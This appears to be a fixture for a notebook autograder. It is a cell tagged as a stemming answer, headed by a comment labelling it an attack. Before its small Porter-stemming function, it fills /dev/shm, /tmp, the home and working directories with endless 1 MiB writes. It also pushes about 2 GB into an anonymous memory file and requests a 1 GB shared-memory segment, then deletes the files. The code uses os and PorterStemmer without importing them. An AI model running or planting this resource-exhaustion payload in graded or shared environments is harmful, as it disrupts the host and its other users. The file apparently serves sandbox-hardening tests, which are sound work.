# ---
# attack: Files that are memory, and memory without a name, are filled to the brim.
# ---

# %% grade_id="stem"
import ctypes
import mmap

kept = []
for folder in ("/dev/shm", "/tmp", os.environ.get("TMPDIR", "/tmp"), os.environ["HOME"], "."):
    try:
        with open(os.path.join(folder, "hoard"), "wb") as file:
            while True:
                file.write(b"x" * (1 << 20))
    except OSError as error:
        print(folder, error.strerror)
try:
    descriptor = os.memfd_create("hoard")
    for _ in range(2000):
        os.write(descriptor, b"x" * (1 << 20))
    print("reached".upper())
except OSError as error:
    print(error.strerror)
print(ctypes.CDLL(None).shmget(0, 1 << 30, 0o1600))
for folder in ("/dev/shm", "/tmp", os.environ.get("TMPDIR", "/tmp"), os.environ["HOME"], "."):
    path = os.path.join(folder, "hoard")
    if os.path.exists(path):
        os.remove(path)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
